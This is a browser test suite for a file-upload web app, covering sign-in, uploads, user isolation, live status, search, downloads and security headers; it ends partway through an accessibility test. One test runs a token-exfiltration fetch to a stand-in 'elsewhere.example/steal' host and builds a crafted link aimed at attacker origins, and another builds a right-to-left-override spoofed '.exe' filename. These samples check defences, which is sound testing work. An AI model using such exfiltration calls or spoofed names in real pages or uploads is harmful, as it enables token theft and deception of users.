// Real-browser test of the upload page: starts the local stack (target/debug/picasso),
// drives Debian's Chromium through playwright-core, signs in through the page (the stack's
// dev issuer), uploads files through it and waits for the server to process them; two users
// in two browser contexts never see each other's files. Run: cd tests/browser && node --test
import { test, describe, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { createHash } from 'node:crypto';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import zlib from 'node:zlib';
import { chromium } from 'playwright-core';
import { WebSocketServer } from 'ws';
import { build } from 'esbuild';

const ROOT = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../..');
const BIN = process.env.PICASSO_BIN
  ? path.resolve(process.env.PICASSO_BIN)
  : path.join(ROOT, 'target/debug/picasso');
const CHROMIUM = process.env.CHROMIUM_PATH || '/usr/bin/chromium';
// `SCREENSHOT=docs/screenshot.png` refreshes the README's picture.
const SCREENSHOT = path.resolve(ROOT, process.env.SCREENSHOT ?? '.test-run/screenshot.png');
const WAIT = 30_000;
const MIB = 1024 * 1024;

// ---------- a valid PNG, made here ----------
const CRC_TABLE = Array.from({ length: 256 }, (_, n) => {
  let c = n;
  for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
  return c >>> 0;
});
function crc32(buf) {
  let c = 0xffffffff;
  for (const b of buf) c = CRC_TABLE[(c ^ b) & 0xff] ^ (c >>> 8);
  return (c ^ 0xffffffff) >>> 0;
}
function chunk(type, data) {
  const len = Buffer.alloc(4);
  len.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'ascii'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([len, body, crc]);
}
function makePng(width, height) {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr.set([8, 2, 0, 0, 0], 8); // 8-bit RGB, no interlace
  const rows = [];
  for (let y = 0; y < height; y++) {
    const row = [0]; // filter: none
    for (let x = 0; x < width; x++) row.push((x * 255) / (width - 1), (y * 255) / (height - 1), 160);
    rows.push(Buffer.from(row.map(Math.round)));
  }
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', ihdr),
    chunk('IDAT', zlib.deflateSync(Buffer.concat(rows))),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

const PNG = { name: 'tiny.png', mimeType: 'image/png', buffer: makePng(40, 30) };
// Declared an image, but it is text: uploads fine, then fails processing with a reason.
const FAKE = { name: 'fake.png', mimeType: 'image/png', buffer: Buffer.from('just some text, not a picture\n') };
const TEXT = {
  name: 'notes.txt',
  mimeType: 'text/plain',
  buffer: Buffer.from('Picasso browser test.\n'.repeat(2000)),
};
// Any type is accepted, but not a name that shows as something else: with a right-to-left
// override, "invoice\u202Egpj.exe" reads as "invoiceexe.jpg".
const DECEPTIVE = { name: 'invoice\u202Egpj.exe', mimeType: 'application/x-msdownload', buffer: Buffer.from('MZ\x90\x00fake') };
const BOBS = { name: 'bob-only.txt', mimeType: 'text/plain', buffer: Buffer.from('for bob\'s eyes only\n') };

// ---------- the stack ----------
let stack, stackLogs = { out: '', err: '' }, dataDir, api, browser, page;
const pageErrors = [];

// A local stack on free ports with its own data directory and `args` (its page's settings):
// the process, the directory, its output so far, and its API URL once the banner says it listens.
function spawnStack(args = [], env = {}) {
  if (!existsSync(BIN)) {
    throw new Error(`picasso binary not found at ${BIN}: build it with 'cargo build' or set PICASSO_BIN`);
  }
  const dir = mkdtempSync(path.join(tmpdir(), 'picasso-browser-'));
  const proc = spawn(BIN, ['--port', '0', '--s3-port', '0', '--data-dir', dir, ...args], {
    cwd: ROOT,
    env: { ...process.env, ...env },
    stdio: ['ignore', 'pipe', 'pipe'],
  });
  const logs = { out: '', err: '' };
  proc.stderr.on('data', (d) => { logs.err += d; });
  const url = new Promise((resolve, reject) => {
    const timer = setTimeout(() => reject(new Error(`no 'API: http://…' banner line within 30 s; stdout:\n${logs.out}`)), WAIT);
    proc.stdout.on('data', (d) => {
      logs.out += d;
      const m = /API:\s*(https?:\/\/\S+)/.exec(logs.out);
      if (m) { clearTimeout(timer); resolve(m[1].replace(/\/+$/, '')); }
    });
    proc.on('error', (e) => { clearTimeout(timer); reject(e); });
    proc.on('exit', (code, signal) => {
      clearTimeout(timer);
      reject(new Error(`picasso exited early (code ${code}, signal ${signal}); stderr:\n${logs.err}`));
    });
  });
  return { proc, dir, logs, url };
}

// The stack the tests share: parts of 5 MiB above 6 MiB, so a file of a few MiB goes in parts.
function startStack() {
  const s = spawnStack([], { MULTIPART_THRESHOLD: String(6 * MIB), MULTIPART_PART_BYTES: String(5 * MIB) });
  ({ proc: stack, dir: dataDir, logs: stackLogs } = s);
  return s.url;
}

// Another stack beside the shared one, with its own flags: its API URL and a stop function.
async function extraStack(args) {
  const { proc, dir, url } = spawnStack(args);
  const stop = () => new Promise((resolve) => {
    if (proc.exitCode !== null || proc.signalCode !== null) return resolve();
    proc.once('exit', () => { rmSync(dir, { recursive: true, force: true }); resolve(); });
    proc.kill('SIGTERM');
  });
  return { api: await url, stop };
}

function stopStack() {
  if (!stack || stack.exitCode !== null || stack.signalCode !== null) return Promise.resolve();
  return new Promise((resolve) => {
    const kill = setTimeout(() => stack.kill('SIGKILL'), 5000);
    stack.once('exit', () => { clearTimeout(kill); resolve(); });
    stack.kill('SIGTERM');
  });
}

// Prints the stack's stderr (and the page's errors) when a test fails, then rethrows.
async function withLogs(fn) {
  try {
    await fn();
  } catch (e) {
    console.error(`--- picasso stderr ---\n${stackLogs.err || '(empty)'}\n--- end picasso stderr ---`);
    if (pageErrors.length) console.error(`--- page errors ---\n${pageErrors.join('\n')}`);
    throw e;
  }
}

const sleep = (ms) => new Promise((r) => setTimeout(r, ms));
const uploadRow = (name) => page.locator(`#uploads li.upload[data-filename="${name}"]`);

// ---------- signing in ----------
const VIEWPORT = { width: 1100, height: 820 };

// A page of its own browser context (its own sessionStorage: another user), errors collected.
async function newUserPage(query = '', base = api) {
  const context = await browser.newContext({ viewport: VIEWPORT });
  const p = await context.newPage();
  p.on('pageerror', (e) => pageErrors.push(`pageerror: ${e.message}`));
  p.on('console', (m) => { if (/Content Security Policy/.test(m.text())) pageErrors.push(`csp: ${m.text()}`); });
  const res = await p.goto(`${base}/${query}`);
  assert.equal(res.status(), 200);
  return p;
}

// "Sign in as …" through the page: the dev issuer gives the tab its token.
async function signIn(p, name, { admin = false } = {}) {
  await p.locator('#dev-name').waitFor({ state: 'visible', timeout: WAIT });
  await p.fill('#dev-name', name);
  if (admin) await p.check('#dev-admin');
  await p.click('#dev-sign-in-button');
  await p.waitForFunction((n) => document.querySelector('#who').textContent === n
    && !document.querySelector('#app').hidden, name, { timeout: WAIT });
}

// The token the page keeps for this tab.
const tokenOf = (p) => p.evaluate(() => {
  const key = Object.keys(sessionStorage).find((k) => k.startsWith('picasso.session:'));
  return key ? JSON.parse(sessionStorage.getItem(key)).token : null;
});
const withToken = (token, init = {}) => ({ ...init, headers: { ...(init.headers || {}), authorization: `Bearer ${token}` } });
// The ids of the rows the page lists.
const listedIds = (p) => p.evaluate(() => [...document.querySelectorAll('#files tr')].map((tr) => tr.dataset.id));

// Waits for a file's row in `p`'s list to reach `status`.
async function rowReaches(p, id, status) {
  await p.waitForFunction(([id, status]) => {
    const td = document.querySelector(`#files tr[data-id="${id}"] td.status`);
    return td && td.textContent === status;
  }, [id, status], { timeout: WAIT });
}

// Uploads `file` through `p` and returns the id its upload row gets.
async function uploadThrough(p, file) {
  await p.setInputFiles('#file-input', [file]);
  const handle = await p.waitForFunction((n) => {
    const r = document.querySelector(`#uploads li.upload[data-filename="${n}"]`);
    return r && r.dataset.id ? r.dataset.id : false;
  }, file.name, { timeout: WAIT });
  return handle.jsonValue();
}

describe('upload page in Chromium', { timeout: 120_000 }, () => {
  before(async () => {
    await withLogs(async () => {
      api = await startStack();
      browser = await chromium.launch({
        executablePath: CHROMIUM,
        args: ['--no-sandbox', '--disable-gpu', '--disable-background-networking', '--disable-component-update',
          '--disable-sync', '--no-first-run'],
      });
      page = await browser.newPage({ viewport: VIEWPORT });
      page.on('pageerror', (e) => pageErrors.push(`pageerror: ${e.message}`));
      page.on('console', (m) => {
        if (/Content Security Policy/.test(m.text())) pageErrors.push(`csp: ${m.text()}`);
        else if (m.type() === 'error') pageErrors.push(`console: ${m.text()}`);
      });
      const res = await page.goto(`${api}/`);
      assert.equal(res.status(), 200, 'GET / should serve the page');
      await page.locator('h1', { hasText: 'Picasso' }).waitFor();
    });
  });

  after(async () => {
    if (browser) await browser.close().catch(() => {});
    await stopStack();
    if (dataDir) rmSync(dataDir, { recursive: true, force: true });
  });

  test('the page asks to sign in first, and signs in as a name', async () => {
    await withLogs(async () => {
      await page.locator('#sign-in').waitFor({ state: 'visible', timeout: WAIT });
      assert.ok(await page.locator('#app').isHidden(), 'no uploads or list before signing in');
      assert.equal((await fetch(`${api}/files`)).status, 401, 'the API wants a token');
      await signIn(page, 'alice');
      assert.ok(await page.locator('#sign-in').isHidden());
      assert.ok(await page.locator('#scope-toggle').isHidden(), "alice is no admin: no everyone's-files toggle");
      const token = await tokenOf(page);
      assert.ok(token, 'the tab keeps its token in sessionStorage');
      const res = await fetch(`${api}/files`, withToken(token));
      assert.equal(res.status, 200);
      assert.deepEqual((await res.json()).items, []);
      // Remembered in the tab: a reload keeps alice signed in.
      await page.reload();
      await page.waitForFunction(() => document.querySelector('#who').textContent === 'alice'
        && !document.querySelector('#app').hidden, null, { timeout: WAIT });
    });
  });

  test('two files upload with progress and get processed', async () => {
    await withLogs(async () => {
      await page.setInputFiles('#file-input', [PNG, TEXT]);

      // Both uploads finish (or one fails, which ends the wait early with its message).
      const handle = await page.waitForFunction((names) => {
        const rows = names.map((n) => document.querySelector(`#uploads li.upload[data-filename="${n}"]`));
        if (rows.some((r) => !r)) return false;
        const state = rows.map((r) => ({
          name: r.dataset.filename,
          id: r.dataset.id || null,
          progress: r.querySelector('progress.upload-progress').getAttribute('value'),
          status: r.querySelector('.upload-status').textContent,
          error: r.querySelector('.upload-error').textContent,
        }));
        return state.every((s) => s.progress === '100' && s.id) || state.some((s) => s.error) ? state : false;
      }, [PNG.name, TEXT.name], { timeout: WAIT });
      const state = await handle.jsonValue();
      for (const s of state) {
        assert.equal(s.error, '', `${s.name}: upload error shown: ${s.error}`);
        assert.equal(s.progress, '100', `${s.name}: progress bar should reach 100`);
        assert.ok(s.id, `${s.name}: row should carry the file id`);
      }

      // Both rows in the file list reach "processed".
      for (const s of state) {
        const status = page.locator(`#files tr[data-id="${s.id}"] td.status`);
        await page.waitForFunction((id) => {
          const td = document.querySelector(`#files tr[data-id="${id}"] td.status`);
          return td && (td.textContent === 'processed' || td.textContent === 'failed');
        }, s.id, { timeout: WAIT });
        const row = page.locator(`#files tr[data-id="${s.id}"]`);
        assert.equal(await status.textContent(), 'processed',
          `${s.name}: status in the list; row reads: ${await row.innerText()}`);
        assert.equal(await row.locator('td.filename').textContent(), s.name);
        assert.equal(await status.locator(`.status-processed`).count(), 1, 'status badge class');
      }

      // The server agrees.
      const token = await tokenOf(page);
      for (const s of state) {
        const res = await fetch(`${api}/files/${s.id}`, withToken(token));
        assert.equal(res.status, 200);
        const file = await res.json();
        assert.equal(file.status, 'processed');
        assert.equal(file.processed, true);
        assert.equal(file.size, s.name === PNG.name ? PNG.buffer.length : TEXT.buffer.length);
      }

      // The image row shows its thumbnail (loaded from storage) and its dimensions.
      const pngId = state.find((s) => s.name === PNG.name).id;
      await page.waitForFunction((id) => {
        const img = document.querySelector(`#files tr[data-id="${id}"] img`);
        return img && img.complete && img.naturalWidth > 0;
      }, pngId, { timeout: WAIT });
      const dims = await page.locator(`#files tr[data-id="${pngId}"] .dimensions`).textContent();
      assert.equal(dims, '40 × 30 px');
    });
  });

  test('a file that is not what it claims ends failed, with the reason shown', async () => {
    await withLogs(async () => {
      await page.setInputFiles('#file-input', [FAKE]);
      const handle = await page.waitForFunction((n) => {
        const r = document.querySelector(`#uploads li.upload[data-filename="${n}"]`);
        return r && r.dataset.id ? r.dataset.id : false;
      }, FAKE.name, { timeout: WAIT });
      const id = await handle.jsonValue();
      await page.waitForFunction((id) => {
        const td = document.querySelector(`#files tr[data-id="${id}"] td.status`);
        return td && td.textContent === 'failed';
      }, id, { timeout: WAIT });
      const reason = await page.locator(`#files tr[data-id="${id}"] .file-error`).textContent();
      assert.match(reason, /declared image\/png but the content is/);
    });
  });

  test('a file with a deceptive name is refused, with the API error next to it', async () => {
    await withLogs(async () => {
      await page.setInputFiles('#file-input', [DECEPTIVE]);
      const error = uploadRow(DECEPTIVE.name).locator('.upload-error');
      await page.waitForFunction((n) => {
        const e = document.querySelector(`#uploads li.upload[data-filename="${n}"] .upload-error`);
        return e && e.textContent.trim() !== '';
      }, DECEPTIVE.name, { timeout: WAIT });
      const shown = await error.textContent();

      // It is the API's own message for the same request.
      const token = await tokenOf(page);
      const res = await fetch(`${api}/upload`, withToken(token, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ filename: DECEPTIVE.name, content_type: DECEPTIVE.mimeType, size: DECEPTIVE.buffer.length }),
      }));
      assert.equal(res.status, 400, 'POST /upload with a right-to-left override in the name should be refused');
      const body = await res.json();
      assert.equal(body.error && body.error.code, 'invalid_filename');
      assert.ok(body.error.message, 'error body has error.message');
      assert.equal(shown, body.error.message);
      assert.ok(await uploadRow(DECEPTIVE.name).evaluate((r) => r.classList.contains('error')));
      // The page shows the override for what it is instead of obeying it.
      assert.equal(await uploadRow(DECEPTIVE.name).locator('.name').textContent(), 'invoice[U+202E]gpj.exe');
      // Nothing was recorded for it.
      const list = await (await fetch(`${api}/files?limit=1000`, withToken(token))).json();
      assert.ok(!list.items.some((f) => f.filename === DECEPTIVE.name), 'no record for the refused file');
    });
  });

  test("two users in two browser contexts never see each other's files; an admin sees both", async () => {
    await withLogs(async () => {
      const bob = await newUserPage();
      await signIn(bob, 'bob');
      await bob.locator('#empty').waitFor({ state: 'visible', timeout: WAIT });
      assert.deepEqual(await listedIds(bob), [], "bob starts with nothing: none of alice's files");
      const bobsId = await uploadThrough(bob, BOBS);
      await rowReaches(bob, bobsId, 'processed');

      // Alice's list, refreshed, does not have it; bob's has only it.
      const listed = page.waitForResponse((r) => r.url().startsWith(`${api}/files?`) && r.status() === 200);
      await page.click('#refresh');
      await listed;
      const alices = await listedIds(page);
      assert.ok(alices.length >= 3, `alice's files are listed: ${alices}`);
      assert.ok(!alices.includes(bobsId), "bob's file is not in alice's list");
      assert.deepEqual(await listedIds(bob), [bobsId]);
      // Nor can bob reach hers through the API: as if they did not exist.
      const bobsToken = await tokenOf(bob);
      for (const id of alices) {
        const res = await fetch(`${api}/files/${id}`, withToken(bobsToken));
        assert.equal(res.status, 404, `bob GET /files/${id}`);
      }
      assert.equal((await fetch(`${api}/files?scope=all`, withToken(bobsToken))).status, 403);

      // An admin sees everyone's files with the toggle.
      const admin = await newUserPage();
      await signIn(admin, 'root', { admin: true });
      await admin.locator('#scope-toggle').waitFor({ state: 'visible' });
      await admin.check('#scope-all');
      await admin.waitForFunction((ids) => ids.every((id) => document.querySelector(`#files tr[data-id="${id}"]`)),
        [...alices, bobsId], { timeout: WAIT });
      await admin.uncheck('#scope-all');
      await admin.locator('#empty').waitFor({ state: 'visible', timeout: WAIT });
      await bob.context().close();
      await admin.context().close();
    });
  });

  test("live status: an upload turns processed with no GET /files after the first load, and another user's page shows none of it", async () => {
    await withLogs(async () => {
      const carol = await newUserPage();
      await signIn(carol, 'carol');
      await carol.locator('#empty').waitFor({ state: 'visible', timeout: WAIT });
      const dave = await newUserPage();
      await signIn(dave, 'dave');
      await dave.locator('#empty').waitFor({ state: 'visible', timeout: WAIT });
      for (const p of [carol, dave]) {
        await p.waitForFunction(() => document.body.dataset.live === 'up', null, { timeout: WAIT });
      }
      const listings = [];
      for (const p of [carol, dave]) {
        p.on('request', (r) => { if (new URL(r.url()).pathname === '/files') listings.push(r.url()); });
      }
      const id = await uploadThrough(carol, { name: 'live.txt', mimeType: 'text/plain', buffer: Buffer.from('live\n') });
      await rowReaches(carol, id, 'processed');
      assert.deepEqual(listings, [], 'no GET /files while the channel is up: the events brought the changes');
      await new Promise((r) => setTimeout(r, 300));
      assert.deepEqual(await listedIds(dave), [], "dave's page shows nothing of carol's");
      await carol.context().close();
      await dave.context().close();
    });
  });

  test('with a WebSocket API (--live-url, as on AWS) rows change from its messages, and the page reconnects', async () => {
    await withLogs(async () => {
      // Stands in for API Gateway's WebSocket API: what the page connects with, and what it is sent.
      const wss = new WebSocketServer({ host: '127.0.0.1', port: 0 });
      await new Promise((r) => wss.once('listening', r));
      const connections = [];
      wss.on('connection', (socket, req) => connections.push({ socket, url: new URL(req.url, 'http://x') }));
      const until = async (what, ok) => {
        const deadline = Date.now() + WAIT;
        while (!ok()) {
          assert.ok(Date.now() < deadline, what);
          await new Promise((r) => setTimeout(r, 20));
        }
      };
      // The page's settings come from the stack that serves it: this one is told a WebSocket API.
      const other = await extraStack(['--live-url', `ws://127.0.0.1:${wss.address().port}/live`]);
      const api = other.api;
      const erin = await newUserPage('', api);
      const seen = [];
      erin.on('request', (r) => seen.push(new URL(r.url()).pathname));
      await signIn(erin, 'erin');
      await until('the page connects', () => connections.length === 1);
      const token = await tokenOf(erin);
      assert.equal(connections[0].url.searchParams.get('token'), token, 'the JWT in the query, as $connect takes it');
      await erin.waitForFunction(() => document.body.dataset.live === 'up', null, { timeout: WAIT });
      assert.ok(!seen.includes('/events'), 'no Server-Sent Events when a WebSocket API is given');

      const listed = seen.filter((p) => p === '/files').length;
      const id = await uploadThrough(erin, { name: 'socket.txt', mimeType: 'text/plain', buffer: Buffer.from('ws\n') });
      // The stack processes it; the page may learn that only from the socket.
      let file;
      for (const deadline = Date.now() + WAIT; file?.status !== 'processed'; await new Promise((r) => setTimeout(r, 50))) {
        assert.ok(Date.now() < deadline, `not processed: ${JSON.stringify(file)}`);
        file = await (await fetch(`${api}/files/${id}`, withToken(token))).json();
      }
      await new Promise((r) => setTimeout(r, 300));
      assert.ok(await erin.evaluate((id) => document.querySelector(`#files tr[data-id="${id}"] td.status`).textContent !== 'processed', id),
        'the row waits for the socket (nothing polls)');
      const send = (type, version, data) => connections.at(-1).socket.send(JSON.stringify(
        { type, id: `${id}.${version}`, timestamp: new Date().toISOString(), data: { ...data, version } }));
      send('file.processed', 3, { ...file, thumbnail_url: undefined });
      await rowReaches(erin, id, 'processed');
      send('file.created', 1, { ...file, status: 'pending', processed: false });
      await new Promise((r) => setTimeout(r, 300));
      await rowReaches(erin, id, 'processed');   // an older version changes nothing
      assert.equal(seen.filter((p) => p === '/files').length, listed, 'no GET /files while the socket is up');

      // The socket drops: the page reconnects and reads the list once for what it missed.
      connections[0].socket.close();
      await until('the page reconnects', () => connections.length === 2);
      await erin.waitForFunction(() => document.body.dataset.live === 'up', null, { timeout: WAIT });
      await until('one GET /files after reconnecting', () => seen.filter((p) => p === '/files').length === listed + 1);
      await erin.context().close();
      wss.close();
      await other.stop();
    });
  });

  test('searching a name prefix lists only the matches, in any case; clearing it lists all again', async () => {
    await withLogs(async () => {
      const fay = await newUserPage();
      await signIn(fay, 'fay');
      await fay.locator('#empty').waitFor({ state: 'visible', timeout: WAIT });
      const ids = {};
      for (const name of ['alpha-1.txt', 'Alpha-2.txt', 'beta.txt']) {
        ids[name] = await uploadThrough(fay, { name, mimeType: 'text/plain', buffer: Buffer.from(`${name}\n`) });
        await rowReaches(fay, ids[name], 'processed');
      }
      const searched = fay.waitForResponse((r) => new URL(r.url()).searchParams.get('q') === 'ALP' && r.status() === 200);
      await fay.fill('#search', 'ALP');
      await searched;
      await fay.waitForFunction((n) => document.querySelectorAll('#files tr').length === n, 2, { timeout: WAIT });
      assert.deepEqual(new Set(await listedIds(fay)), new Set([ids['alpha-1.txt'], ids['Alpha-2.txt']]));
      await fay.fill('#search', 'gamma');
      await fay.locator('#empty').waitFor({ state: 'visible', timeout: WAIT });
      assert.match(await fay.locator('#empty').textContent(), /gamma/);
      await fay.fill('#search', '');
      await fay.waitForFunction((n) => document.querySelectorAll('#files tr').length === n, 3, { timeout: WAIT });
      await fay.context().close();
    });
  });

  test('each file has its details, a download of exactly its bytes, and a delete that lasts', async () => {
    await withLogs(async () => {
      const gil = await newUserPage();
      await signIn(gil, 'gil');
      await gil.locator('#empty').waitFor({ state: 'visible', timeout: WAIT });
      const jpeg = { name: 'photo.jpg', mimeType: 'image/jpeg', buffer: readFileSync(path.join(ROOT, 'tests/fixtures/photo.jpg')) };
      const csv = { name: 'sheet.csv', mimeType: 'text/csv', buffer: Buffer.from('a,b\n1,2\n3,4\n') };
      const liar = { name: 'liar.png', mimeType: 'image/png', buffer: Buffer.from('not a picture at all\n') };
      const ids = {};
      for (const [f, status] of [[jpeg, 'processed'], [csv, 'processed'], [liar, 'failed']]) {
        ids[f.name] = await uploadThrough(gil, f);
        await rowReaches(gil, ids[f.name], status);
      }
      const facts = async (id) => {
        await gil.click(`#files tr[data-id="${id}"] button:has-text("Details")`);
        await gil.locator('#file-panel').waitFor({ state: 'visible', timeout: WAIT });
        return gil.locator('#panel-facts').textContent();
      };
      assert.match(await facts(ids['photo.jpg']), /640 × 427 px/);
      assert.match(await facts(ids['photo.jpg']), new RegExp(createHash('sha256').update(jpeg.buffer).digest('hex')));
      assert.match(await facts(ids['sheet.csv']), /3 lines, 3 words/);
      const failed = await facts(ids['liar.png']);
      assert.match(failed, /Failed because/);
      assert.match(failed, /\(\w+\)/, 'the failure code beside the reason');
      await gil.click('#panel-close');
      assert.ok(await gil.locator('#file-panel').isHidden());

      // Download: the link's bytes are the JPEG's.
      const downloaded = gil.waitForEvent('download');
      await gil.click(`#files tr[data-id="${ids['photo.jpg']}"] button:has-text("Download")`);
      const file = await (await downloaded).path();
      assert.equal(createHash('sha256').update(readFileSync(file)).digest('hex'),
        createHash('sha256').update(jpeg.buffer).digest('hex'));

      // Delete, confirmed: gone, and still gone after a reload.
      gil.once('dialog', (d) => d.accept());
      await gil.click(`#files tr[data-id="${ids['sheet.csv']}"] button:has-text("Delete")`);
      await gil.waitForFunction((id) => !document.querySelector(`#files tr[data-id="${id}"]`), ids['sheet.csv'], { timeout: WAIT });
      await gil.reload();
      await gil.waitForFunction((n) => document.querySelectorAll('#files tr').length === n, 2, { timeout: WAIT });
      assert.ok(!(await listedIds(gil)).includes(ids['sheet.csv']));
      // Dismissed: nothing deleted.
      gil.once('dialog', (d) => d.dismiss());
      await gil.click(`#files tr[data-id="${ids['liar.png']}"] button:has-text("Delete")`);
      await new Promise((r) => setTimeout(r, 300));
      assert.ok((await listedIds(gil)).includes(ids['liar.png']));
      await gil.context().close();
    });
  });

  test('filters by status and kind, oldest first, a pasted image uploads, and scrolling reads the next page', async () => {
    await withLogs(async () => {
      const jo = await newUserPage();
      await signIn(jo, 'jo');
      const BLOB = { name: 'blob.bin', mimeType: 'application/octet-stream', buffer: Buffer.from([0, 1, 2, 3]) };
      const order = [PNG, TEXT, FAKE, BLOB];
      const ids = {};
      for (const f of order) {
        ids[f.name] = await uploadThrough(jo, f);
        const verdict = f === FAKE ? 'failed' : 'processed';
        await rowReaches(jo, ids[f.name], verdict);
        // The verdict is also said in a live region, for screen readers.
        await jo.waitForFunction(([n, v]) => document.querySelector('#announcer').textContent.startsWith(`${n}: ${v}`),
          [f.name, verdict], { timeout: WAIT });
      }
      const shown = () => jo.evaluate(() => [...document.querySelectorAll('#files tr')]
        .filter((tr) => tr.offsetParent !== null).map((tr) => tr.dataset.id));
      const until = async (what, want) => {
        const deadline = Date.now() + WAIT;
        let got;
        while (JSON.stringify(got = await shown()) !== JSON.stringify(want)) {
          assert.ok(Date.now() < deadline, `${what}: ${JSON.stringify(got)} instead of ${JSON.stringify(want)}`);
          await sleep(50);
        }
      };
      const [png, text, fake, blob] = order.map((f) => ids[f.name]);
      await jo.selectOption('#status-filter', 'failed');
      await until('status failed (asked of the API)', [fake]);
      await jo.selectOption('#status-filter', '');
      await jo.selectOption('#kind-filter', 'image');
      await until('images', [png]);
      await jo.selectOption('#kind-filter', 'text');
      await until('text', [text]);
      await jo.selectOption('#kind-filter', 'other');
      await until('other kinds, by the detected type: the fake PNG is not an image', [blob, fake]);
      await jo.selectOption('#kind-filter', 'image');
      await jo.selectOption('#status-filter', 'pending');
      await jo.locator('#empty').waitFor({ state: 'visible', timeout: WAIT });
      assert.match(await jo.locator('#empty').textContent(), /Choose “All”/, 'the empty state says what to do');
      await jo.selectOption('#status-filter', '');
      await jo.selectOption('#kind-filter', '');
      await jo.selectOption('#order', 'oldest');
      await until('oldest first', [png, text, fake, blob]);

      // An image pasted from the clipboard is uploaded, named for when it was pasted.
      await jo.evaluate((b64) => {
        const dt = new DataTransfer();
        dt.items.add(new File([Uint8Array.from(atob(b64), (c) => c.charCodeAt(0))], 'image.png', { type: 'image/png' }));
        document.dispatchEvent(new ClipboardEvent('paste', { clipboardData: dt, bubbles: true, cancelable: true }));
      }, makePng(20, 10).toString('base64'));
      const pasted = await (await jo.waitForFunction(() => {
        const r = document.querySelector('#uploads li.upload[data-filename^="pasted-"]');
        return r && r.dataset.id ? [r.dataset.id, r.dataset.filename] : false;
      }, null, { timeout: WAIT })).jsonValue();
      assert.match(pasted[1], /^pasted-\d{8}-\d{6}\.png$/);
      await rowReaches(jo, pasted[0], 'processed');
      await until('the pasted file joins the end, oldest first', [png, text, fake, blob, pasted[0]]);

      // More than a page (50): the next one is read when the end of the list scrolls into view.
      const token = await tokenOf(jo);
      for (let i = 0; i < 50; i += 10) {
        await Promise.all(Array.from({ length: 10 }, async (_, k) => {
          const body = Buffer.from(`file ${i + k}\n`);
          const res = await fetch(`${api}/upload`, withToken(token, { method: 'POST', headers: { 'content-type': 'application/json' },
            body: JSON.stringify({ filename: `many-${i + k}.txt`, content_type: 'text/plain', size: body.length }) }));
          assert.equal(res.status, 201);
          const { upload } = await res.json();
          assert.equal((await fetch(upload.url, { method: 'PUT', headers: upload.headers, body })).status, 200);
        }));
      }
      await jo.selectOption('#order', 'newest');
      await jo.waitForFunction(() => document.querySelectorAll('#files tr').length === 50 && !document.querySelector('#load-more').hidden,
        null, { timeout: WAIT });
      await jo.evaluate(() => document.querySelector('#load-more').scrollIntoView());
      await jo.waitForFunction(() => document.querySelectorAll('#files tr').length === 55, null, { timeout: WAIT });
      assert.ok(await jo.locator('#load-more').isHidden(), 'nothing left to read');
      await jo.context().close();
    });
  });

  test('the page takes its settings from the stack that serves it, never from its URL, and reaches only their origins', async () => {
    await withLogs(async () => {
      const res = await fetch(`${api}/`);
      assert.equal(res.status, 200, 'the page needs no token');
      const csp = res.headers.get('content-security-policy');
      for (const d of ["default-src 'none'", "frame-ancestors 'none'", "base-uri 'none'", "script-src 'sha256-"]) assert.ok(csp.includes(d), `${d} in ${csp}`);
      assert.doesNotMatch(csp, /unsafe-inline|unsafe-eval|\*/);
      assert.equal(res.headers.get('x-content-type-options'), 'nosniff');
      assert.equal(res.headers.get('referrer-policy'), 'no-referrer');

      // A crafted link: the old URL parameters are ignored, and the token goes nowhere else.
      const crafted = '?api=https://elsewhere.example&client_id=abc&domain=evil.example&ws=wss://elsewhere.example/live';
      const ivy = await newUserPage(crafted);
      const hosts = new Set();
      ivy.on('request', (r) => hosts.add(new URL(r.url()).host));
      ivy.on('websocket', (w) => hosts.add(new URL(w.url()).host));
      assert.equal(await ivy.locator('#api-base').textContent(), `API: ${api}`);
      await signIn(ivy, 'ivy');
      const id = await uploadThrough(ivy, { name: 'stays-here.txt', mimeType: 'text/plain', buffer: Buffer.from('here\n') });
      await rowReaches(ivy, id, 'processed');
      assert.ok(hosts.has(new URL(api).host), 'the page talked to its own API');
      assert.deepEqual([...hosts].filter((h) => /elsewhere|evil/.test(h)), [], 'nothing sent to the crafted origins');
      // Whatever runs in the page, its policy refuses other origins.
      const refused = await ivy.evaluate(() => new Promise((resolve) => {
        document.addEventListener('securitypolicyviolation', (e) => resolve(e.effectiveDirective), { once: true });
        fetch('https://elsewhere.example/steal', { method: 'POST', body: 'token' }).catch(() => {});
        setTimeout(() => resolve(null), 5000);
      }));
      assert.equal(refused, 'connect-src');
      for (let i = pageErrors.length - 1; i >= 0; i--) if (pageErrors[i].includes('elsewhere.example')) pageErrors.splice(i, 1);
      await ivy.context().close();
    });
  });

  test('accessible (axe-core: no serious or critical violation, signed out and in) and usable 390 px wide', async () => {
    await withLogs(async () => {
      const axe = path.join(ROOT, 'tests/browser/node_modules/axe-core/axe.min.js');
      const violations = async (p) => {
        await p.evaluate(readFileSync(axe, 'utf8'));   // not a <script>: the page's policy runs only its own
        const found = await p.evaluate(async () => (await window.axe.run(document)).violations
          .map((v) => ({ id: v.id, impact: v.impact, nodes: v.nodes.map((n) => n.target.join(' ')).slice(0, 3) })));
        return found.filter((v) => v.impact === 'serious' || v.impact === 'critical');
      };
      const hal = await newUserPage();
      await hal.locator('#dev-name').waitFor({ state: 'visible', timeout: WAIT });
      assert.deepEqual(await violations(hal), [], 'signed out');
      await signIn(hal, 'hal');
      const id = await uploadThrough(hal, { name: 'a11y.txt', mimeType: 'text/plain', buffer: Buffer.from('a11y\n') });
      await rowReaches(hal, id, 'processed');
      await hal.click(`#files tr[data-id="${id}"] button:has-text("Details")`);
      assert.deepEqual(await violations(hal), [], 'signed in, with a file and its details');
